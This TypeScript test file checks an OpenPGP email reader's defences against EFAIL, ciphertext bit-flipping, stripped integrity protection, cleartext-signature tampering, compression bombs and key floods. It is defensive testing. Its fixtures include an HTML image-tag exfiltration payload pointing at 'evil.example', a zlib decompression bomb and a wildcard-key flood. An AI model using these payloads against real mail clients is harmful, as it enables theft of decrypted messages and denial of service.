// What an attacker tries on ciphertext, on clearsigned text and on our patience, by name.
import * as openpgp from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { armor, dearmor } from '#pgp/armor.ts';
import {
  type Cast,
  cast,
  ciphertext,
  detached,
  encryptedPart,
  encryptedType,
  mail,
  multipart,
  now,
  opened,
  part,
  refusal,
  signedPart,
  signedType,
} from '#test/pgp/people.ts';

let people: Cast;
const order = part('text/plain', 'I take this.\n/take');
const evil = part('text/plain', '/announce now');

beforeAll(async () => {
  people = await cast();
});

const packetsOf = (armored: string) => dearmor(armored)?.bytes ?? Buffer.alloc(0);
const read = (entity: string, from?: string) => opened(mail(entity, from), people.ring);

async function clearsigned(text: string, ...by: Cast['lead'][]): Promise<string> {
  const message = await openpgp.createCleartextMessage({ text });
  const signed: string = await openpgp.sign({ message, signingKeys: by.map(({ own }) => own.key), date: now });
  return signed;
}

const textPart = (block: string, charset = 'utf-8') => part(`text/plain; charset=${charset}`, block, 'Content-Transfer-Encoding: 8bit');

describe('EFAIL', () => {
  it('direct exfiltration: keeps decrypted words apart from the parts around them', async () => {
    const cipher = encryptedPart(await ciphertext(part('text/plain', 'the secret'), [people.team]));
    const mixed = await read(multipart('mixed', [part('text/html', '<img src="http://evil.example/'), cipher, part('text/html', '">')]));
    const secret = mixed.passages.filter((passage) => passage.text.includes('the secret'));
    expect(secret).toEqual([{ text: 'the secret', from: 'plain', covered: false }]);
    expect(mixed.passages.some((passage) => passage.text.includes('evil.example') && passage.text.includes('secret'))).toBe(false);
    expect(mixed.signature.covers).toBe('none');
  });

  it('gadgets: refuses ciphertext with any bit flipped', async () => {
    const armored = await ciphertext(part('text/plain', 'words'.repeat(50)), [people.team], [people.lead]);
    const bytes = packetsOf(armored);
    expect(await refusal(mail(encryptedPart(armor('PGP MESSAGE', bytes))), people.ring)).toBeUndefined();
    for (const back of [1, 15, 40, 100, 200]) {
      const flipped = Buffer.from(bytes);
      const at = flipped.length - back;
      flipped[at] = (flipped[at] ?? 0) ^ 1;
      expect(await refusal(mail(encryptedPart(armor('PGP MESSAGE', flipped))), people.ring), `bit ${back} from the end`).toMatch(/damaged/);
    }
  });

  it('gadgets: refuses the same ciphertext with its integrity protection taken off', async () => {
    const session = await openpgp.generateSessionKey({ encryptionKeys: people.team.certificate.key, date: now });
    const wrapped: Uint8Array = await openpgp.encryptSessionKey({
      ...session,
      encryptionKeys: people.team.certificate.key,
      format: 'binary',
      date: now,
    });
    const body = Buffer.alloc(400, 7);
    const unprotected = Buffer.concat([Buffer.from(wrapped), Buffer.from([0xc9, 0xff, 0, 0, 1, 0x90]), body]);
    expect(await refusal(mail(encryptedPart(armor('PGP MESSAGE', unprotected))), people.ring)).toMatch(/unprotected/);
  });

  it('refuses or ignores clear packets put behind the ciphertext', async () => {
    const armored = await ciphertext(order, [people.team], [people.lead]);
    const bytes = packetsOf(armored);
    const extra = Buffer.from((await openpgp.createMessage({ binary: new Uint8Array(Buffer.from(evil)) })).write() as Uint8Array);
    expect(await refusal(mail(encryptedPart(armor('PGP MESSAGE', Buffer.concat([bytes, extra])))), people.ring)).toBeDefined();
  });
});

describe('signed ciphertext', () => {
  it('reads it but gives the words to nobody, as the signer need not know them', async () => {
    const cipher = encryptedPart(await ciphertext(order, [people.team]));
    const answer = await read(await signedPart(cipher, [people.member]));
    expect(answer.passages).toEqual([{ text: 'I take this.\n/take', from: 'plain', covered: false }]);
    expect(answer.signature).toMatchObject({ status: 'good', by: people.member.certificate.fingerprint, covers: 'none' });
  });

  it('gives the words to whoever signed inside', async () => {
    const cipher = encryptedPart(await ciphertext(order, [people.team], [people.lead]));
    const answer = await read(await signedPart(cipher, [people.member]));
    expect(answer.signature).toMatchObject({ status: 'good', by: people.lead.certificate.fingerprint, covers: 'all' });
  });
});

describe('cleartext signatures', () => {
  it('keeps text before and after the block outside', async () => {
    const block = await clearsigned('/take', people.lead);
    const answer = await read(textPart(`/announce now\n${block}\n/confirm`));
    expect(answer.signature).toMatchObject({ status: 'good', covers: 'part' });
    expect(answer.passages.map(({ text, covered }) => [text.trim(), covered])).toEqual([
      ['/announce now', false],
      ['/take', true],
      ['/confirm', false],
    ]);
  });

  it.each([
    ['words hidden among the armor headers', (block: string) => block.replace('\n\n', '\nComment: /announce now\n\n')],
    ['words hidden in a Hash header', (block: string) => block.replace(/Hash: .*/, 'Hash: SHA512\n/announce now')],
    ['a header that does not end in an empty line', (block: string) => block.replace('\n\n', '\n \n')],
    ['another hash than was used', (block: string) => block.replace(/Hash: .*/, 'Hash: SHA1')],
    ['a line whose dash is not escaped', (block: string) => block.replace('/take', '-/take\n/take')],
    ['a changed word', (block: string) => block.replace('/take', '/fake')],
    ['an added line', (block: string) => block.replace('/take', '/take\n/fake')],
  ])('calls a block with %s bad', async (_, change) => {
    const block = (await clearsigned('/take', people.lead)).replaceAll('\r\n', '\n');
    expect((await read(textPart(block))).signature.status).toBe('good');
    expect(change(block)).not.toBe(block);
    expect((await read(textPart(change(block)))).signature).toMatchObject({ status: 'bad', covers: 'none' });
  });

  it('calls a block bad whose escaped dash lost its escape, though the words hash the same', async () => {
    const block = await clearsigned('-list\n/take', people.lead);
    expect((await read(textPart(block))).signature.status).toBe('good');
    expect((await read(textPart(block.replace('- -list', '-list')))).signature).toMatchObject({ status: 'bad', covers: 'none' });
  });

  it('does not read a quoted block as one', async () => {
    const block = (await clearsigned('/take', people.lead)).replace(/^/gm, '> ');
    expect((await read(textPart(block))).signature).toEqual({ status: 'none', covers: 'none' });
  });

  it.each(['utf-7', 'utf-16le', 'iso-2022-jp', 'shift_jis', 'hz-gb-2312', 'x-nonsense'])(
    'does not cover words re-read through an unsigned label (%s)',
    async (charset) => {
      const answer = await read(textPart(await clearsigned('/take', people.lead), charset));
      expect(answer.signature.covers).not.toBe('all');
      expect(answer.passages.some((passage) => passage.covered)).toBe(false);
    },
  );

  it('covers letters beyond ASCII in UTF-8 and in single-byte charsets', async () => {
    const block = Buffer.from(await clearsigned('Grüße /take', people.lead)).toString('latin1');
    const answer = await read(textPart(block));
    expect(answer.signature.covers).toBe('all');
    expect(answer.passages[0]?.text).toBe('Grüße /take');
  });
});

describe('too much work', () => {
  it('refuses more signed parts than people send', async () => {
    const one = await signedPart(order, [people.lead]);
    const many = Array.from({ length: 60 }, () => one);
    expect(await refusal(mail(multipart('mixed', many, 'outer')), people.ring)).toMatch(/too many/);
  });

  it('refuses layers inside layers', async () => {
    let entity = order;
    for (let layer = 0; layer < 12; layer++) entity = encryptedPart(await ciphertext(entity, [people.team]), `e${layer}`);
    expect(await refusal(mail(entity), people.ring)).toMatch(/too many/);
  });

  it('refuses a bomb of several small parts that only together are too large', { timeout: 60_000 }, async () => {
    const message = await openpgp.createMessage({ binary: new Uint8Array(Buffer.from(part('text/plain', ' '.repeat(20_000_000)))) });
    const key = people.team.certificate.key;
    const packet = new openpgp.CompressedDataPacket();
    Object.assign(packet, { packets: message.packets, algorithm: openpgp.enums.compression.zlib });
    const list = new openpgp.PacketList<openpgp.AnyPacket>();
    list.push(packet);
    const small = await openpgp.encrypt({ message: new openpgp.Message<Uint8Array>(list), encryptionKeys: key, date: now });
    const armored: string = small;
    expect(armored.length).toBeLessThan(200_000);
    const parts = ['a', 'b', 'c', 'd'].map((boundary) => encryptedPart(armored, boundary));
    expect(await refusal(mail(multipart('mixed', parts, 'outer')), people.ring)).toMatch(/too large/);
  });

  it('refuses a message to thousands of keys before trying any', async () => {
    const { team, ring } = people;
    const session = await openpgp.generateSessionKey({ encryptionKeys: team.certificate.key, date: now });
    const hidden: Uint8Array = await openpgp.encryptSessionKey({
      ...session,
      encryptionKeys: team.certificate.key,
      wildcard: true,
      format: 'binary',
      date: now,
    });
    const armored = await ciphertext(order, [team]);
    const bytes = packetsOf(armored);
    const flood = Buffer.concat([...Array.from({ length: 100 }, () => Buffer.from(hidden)), bytes]);
    expect(await refusal(mail(encryptedPart(armor('PGP MESSAGE', flood))), ring)).toMatch(/too many keys/);
  });
});

describe('labels', () => {
  it('believes the signature and not micalg', async () => {
    const signature = part('application/pgp-signature', await detached(order, [people.lead]));
    const entity = multipart('signed', [order, signature], 's', '; protocol="application/pgp-signature"; micalg=pgp-md5');
    expect((await read(entity)).signature).toMatchObject({ status: 'good', covers: 'all' });
  });

  it('calls an empty or unreadable signature part bad', async () => {
    for (const body of ['', 'no signature', '-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----']) {
      const entity = multipart('signed', [order, part('application/pgp-signature', body)], 's', signedType);
      expect((await read(entity)).signature).toMatchObject({ status: 'bad', covers: 'none' });
    }
  });

  it('does not read S/MIME as OpenPGP', async () => {
    const entity = multipart(
      'signed',
      [order, part('application/pkcs7-signature', 'MII')],
      's',
      '; protocol="application/pkcs7-signature"',
    );
    expect((await read(entity)).signature).toEqual({ status: 'none', covers: 'none' });
  });

  it('refuses a multipart/encrypted without a message in it', async () => {
    const entity = multipart(
      'encrypted',
      [part('application/pgp-encrypted', 'Version: 1'), part('application/octet-stream', 'nothing')],
      'e',
      encryptedType,
    );
    expect(await refusal(mail(entity), people.ring)).toMatch(/not an OpenPGP message/);
  });
});
